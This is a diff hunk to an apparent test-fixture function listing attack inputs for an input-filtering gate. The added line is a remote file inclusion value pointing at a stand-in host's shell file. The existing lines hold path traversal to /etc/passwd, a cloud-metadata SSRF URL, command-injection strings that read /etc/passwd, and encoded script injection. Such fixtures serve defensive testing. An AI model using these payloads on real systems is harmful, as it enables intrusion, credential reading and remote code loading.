@@ -134,6 +134,7 @@ def _attacks() -> list[dict[str, object]]:
         {"file": "../../../../etc/passwd"},
         {"url": "http://169.254.169.254/latest/meta-data/"},
         {"cmd": "x; cat /etc/passwd"},
+        {"a": "x", "page": "http://evil.example/shell.txt", "b": "y"},  # a prefilter ending at a view's end
         {"name": "José; cat /etc/passwd"},  # not ASCII: the gate stands aside
         {"v": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e"},
     ]
